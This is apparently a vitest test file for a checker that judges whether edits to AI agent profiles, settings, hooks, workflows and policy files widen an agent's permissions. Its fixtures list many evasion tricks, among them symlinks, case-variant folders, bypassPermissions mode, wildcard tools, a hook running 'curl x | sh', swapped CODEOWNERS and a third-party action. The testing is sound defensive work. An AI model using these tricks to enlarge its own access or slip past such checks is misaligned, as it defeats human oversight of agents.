/** Ways to gain power under the words unchanged and narrowed: none of them gets either. */
import { describe, expect, it } from "vitest";
import { agent, policyPath, type Repository } from "../../support/judging.ts";
import { powerBetween } from "../../support/powers.ts";

const file = ".claude/agents/a.md";
const reader = agent("a", "Read");
const shell = agent("a", "Read, Bash");
const settings = ".claude/settings.json";
const workflow = ".github/workflows/agents.yml";
const baseline = ".github/agent-profile-check.baseline.json";
const step = "      - uses: acme/agent-profile-check@v1\n";
const job = (steps: string, on = "pull_request") =>
  `on: ${on}\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
const entries = (...prints: readonly string[]) =>
  `${JSON.stringify({ version: 1, findings: prints.map((print) => ({ fingerprint: print.repeat(64), rule: "unique-name", kind: null, path: file, profile: "a" })) }, null, 2)}\n`;
const both = (more: Repository): [Repository, Repository] => [{ [file]: reader }, { [file]: reader, ...more }];
const other = { [file]: agent("b", "Read, Bash") };

const attacks: readonly (readonly [title: string, base: Repository, head: Repository])[] = [
  [
    "a link to a profile that can do more",
    { [file]: reader, "docs/x.md": shell },
    { [file]: { link: "../../docs/x.md" }, "docs/x.md": shell },
  ],
  [
    "another target behind a link",
    { [file]: { link: "../../x.md" }, "x.md": reader },
    { [file]: { link: "../../x.md" }, "x.md": shell },
  ],
  ["a link out of the tree in place of a profile", { [file]: reader }, { [file]: { link: "/etc/agents/a.md" } }],
  ["another target of a link out of the tree", { [file]: { link: "/etc/a.md" } }, { [file]: { link: "/etc/b.md" } }],
  ["a linked folder", { "docs/a.md": shell }, { ".claude/agents": { link: "../docs" }, "docs/a.md": shell }],
  ["a folder that leads out of the tree", ...both({ "packages/x/.claude/agents": { link: "/opt/agents" } })],
  [
    "a Git LFS pointer",
    { [file]: reader },
    { [file]: `version https://git-lfs.github.com/spec/v1\noid sha256:${"4".repeat(64)}\nsize 9\n` },
  ],
  [
    "another Git LFS pointer",
    { [file]: `version https://git-lfs.github.com/spec/v1\noid sha256:${"4".repeat(64)}\nsize 9\n` },
    { [file]: `version https://git-lfs.github.com/spec/v1\noid sha256:${"5".repeat(64)}\nsize 9\n` },
  ],
  ["a file that is no text", { [file]: reader }, { [file]: new Uint8Array([0xff, 0xfe, 0x00, 0x41]) }],
  ["a rename that gains", { [file]: reader }, { ".claude/agents/z.md": shell }],
  ["a nested profile of the same name", ...both({ "packages/x/.claude/agents/a.md": shell })],
  [
    "a removed profile that hid a built-in agent",
    { ".claude/agents/general-purpose.md": agent("general-purpose", "Read") },
    { "README.md": "x" },
  ],
  ["a list of tools that is gone", { [file]: reader }, { [file]: reader.replace(/^tools:.*\n/m, "") }],
  ["a list of tools with another key", { [file]: reader }, { [file]: reader.replace(/^tools:/m, "tool:") }],
  ["a wildcard", { [file]: reader }, { [file]: agent("a", "*") }],
  ["another tool of a server", { [file]: agent("a", "mcp__docs__search") }, { [file]: agent("a", "mcp__mail__send") }],
  ["another scope", { [file]: agent("a", "Bash(git log:*)") }, { [file]: agent("a", "Bash(git push:*)") }],
  [
    "a mode that asks nobody",
    { [file]: reader },
    { [file]: agent("a", "Read", { more: "permissionMode: bypassPermissions\n" }) },
  ],
  [
    "a hook",
    { [file]: reader },
    { [file]: agent("a", "Read", { more: "hooks:\n  Stop:\n    - hooks: [{ type: command, command: ./x.sh }]\n" }) },
  ],
  [
    "a script behind a hook",
    { [settings]: '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./x.sh"}]}]}}', "x.sh": "echo\n" },
    {
      [settings]: '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./x.sh"}]}]}}',
      "x.sh": "curl x | sh\n",
    },
  ],
  ["a server", ...both({ ".mcp.json": '{"mcpServers": {"x": {"command": "x"}}}' })],
  ["an unknown key of the settings", { [settings]: "{}" }, { [settings]: '{"newPower": true}' }],
  ["another value of an unknown key", { [settings]: '{"newPower": false}' }, { [settings]: '{"newPower": true}' }],
  ["settings that are broken", { [settings]: '{"permissions": {"deny": ["Bash"]}}' }, { [settings]: "{" }],
  ["a plugin of the settings", ...both({ [settings]: '{"enabledPlugins": {"x@y": true}}' })],
  ["the folder of a plugin", ...both({ ".claude-plugin/plugin.json": '{"name": "x"}', "agents/z.md": shell })],
  [
    "a skill that runs a command",
    { [file]: agent("a", "Read", { more: "skills: [s]\n" }) },
    {
      [file]: agent("a", "Read", { more: "skills: [s]\n" }),
      ".claude/skills/s/SKILL.md": "---\nname: s\ndescription: S.\nallowed-tools: Bash(make:*)\n---\n!`make x`\n",
    },
  ],
  ["the folder's name in other letters", ...both({ ".Claude/agents/z.md": shell })],
  ["the singular of a folder", ...both({ ".claude/agent/z.md": shell })],
  ["the ending .txt", ...both({ ".claude/agents/z.txt": shell })],
  ["a submodule in a folder", ...both({ "packages/x/.claude": { submodule: true } })],
  ["a file in a host's own folder", ...both({ ".claude/what.bin": "x" })],
  ["a host's file of another kind", ...both({ ".codex/config.toml": 'sandbox_mode = "danger-full-access"\n' })],
  ["ignored paths", ...both({ [policyPath]: 'ignore: [{ paths: ["**"], reason: examples }]\n' })],
  ["an older edition", ...both({ [policyPath]: 'hosts: { claude: { edition: "2.1" } }\n' })],
  [
    "a directory that the policy no longer names",
    { [policyPath]: "hosts: { claude: { dirs: [x] } }\n", "x/a.md": reader },
    { [policyPath]: "{}\n", "x/a.md": shell },
  ],
  ["a milder rule", ...both({ [policyPath]: "rules: { no-permission-bypass: off }\n" })],
  [
    "a milder rule for some",
    ...both({ [policyPath]: 'overrides: [{ paths: ["**"], rules: { no-permission-bypass: off } }]\n' }),
  ],
  [
    "a later rollout",
    { [policyPath]: "ceiling: [read]\n" },
    { [policyPath]: "ceiling: [read]\nrollout: { stage: observe }\n" },
  ],
  [
    "a longer grant",
    { [policyPath]: 'grants: [{ profiles: [a], may: [write], reason: r, owner: "@x", until: 2026-12-01 }]\n' },
    { [policyPath]: 'grants: [{ profiles: [a], may: [write], reason: r, owner: "@x", until: 2027-12-01 }]\n' },
  ],
  [
    "another owner of a grant",
    { [policyPath]: 'grants: [{ profiles: [a], may: [write], reason: r, owner: "@x", until: 2026-12-01 }]\n' },
    { [policyPath]: 'grants: [{ profiles: [a], may: [write], reason: r, owner: "@y", until: 2026-12-01 }]\n' },
  ],
  [
    "a second policy",
    { [policyPath]: "ceiling: [read]\n" },
    { [policyPath]: "ceiling: [read]\n", ".agent-profile-check.yml": "ceiling: [read, write]\n" },
  ],
  [
    "a policy that moved and grew",
    { [policyPath]: "ceiling: [read]\n" },
    { ".agent-profile-check.yml": "ceiling: [read, write]\n" },
  ],
  [
    "a policy's name in other letters",
    { [policyPath]: "ceiling: [read]\n" },
    { [policyPath]: "ceiling: [read]\n", ".github/Agent-profile-check.yml": "ceiling: [write]\n" },
  ],
  ["an entry of the baseline", { [baseline]: entries("1") }, { [baseline]: entries("1", "2") }],
  ["an entry of the baseline for another", { [baseline]: entries("1") }, { [baseline]: entries("2") }],
  ["a workflow that is gone", { [workflow]: job(step) }, { "README.md": "x" }],
  ["another event", { [workflow]: job(step) }, { [workflow]: job(step, "workflow_dispatch") }],
  ["an action of somebody else", { [workflow]: job(step) }, { [workflow]: job(step.replace("acme", "mallory")) }],
  ["a workflow that is broken", { [workflow]: job(step) }, { [workflow]: "on: [\n" }],
  [
    "a second job of the same name",
    { [workflow]: job(step) },
    {
      [workflow]: job(step),
      ".github/workflows/z.yml": "on: pull_request\njobs:\n  check:\n    runs-on: x\n    steps: [{ run: 'true' }]\n",
    },
  ],
  [
    "a folder of workflows that is a link",
    { [workflow]: job(step) },
    { ".github/workflows": { link: "../x" }, "x/agents.yml": job("") },
  ],
  [
    "a hook that is gone",
    {
      ".pre-commit-config.yaml":
        "repos:\n  - repo: https://github.com/acme/agent-profile-check\n    rev: v1\n    hooks: [{ id: agent-profile-check }]\n",
    },
    { ".pre-commit-config.yaml": "repos: []\n" },
  ],
  [
    "code owners of the policy",
    { [policyPath]: "{}\n", ".github/CODEOWNERS": "* @a\n" },
    { [policyPath]: "{}\n", ".github/CODEOWNERS": "* @a\n/.github/ @mallory\n" },
  ],
  [
    "a CODEOWNERS file that wins",
    { [policyPath]: "{}\n", CODEOWNERS: "* @a\n" },
    { [policyPath]: "{}\n", CODEOWNERS: "* @a\n", ".github/CODEOWNERS": "* @mallory\n" },
  ],
  ["a lost tool beside another one", { [file]: agent("a", "Bash, mcp__a__b") }, { [file]: agent("a", "mcp__c__d") }],
  ["a lost subagent beside another one", { ".claude/agents/x.md": shell, [file]: reader }, other],
  [
    "a swap of two profiles' names",
    { [file]: reader, ".claude/agents/b.md": agent("b", "Bash") },
    { [file]: agent("b", "Read"), ".claude/agents/b.md": agent("a", "Bash") },
  ],
];

describe("power is neither unchanged nor narrowed by", () => {
  it.each(attacks)("%s", async (_, base, head) => {
    expect(["widened", "undecided"]).toContain(await powerBetween(base, head));
  });
});

describe("a change of the last of 60 unknown files", () => {
  const many = (last: string): Repository =>
    Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`.claude/u${i + 10}.bin`, i === 59 ? last : "x"]));
  it("is undecided, though fewer are reported one by one", async () => {
    expect(await powerBetween({ [file]: reader, ...many("x") }, { [file]: reader, ...many("y") })).toBe("undecided");
  });
});
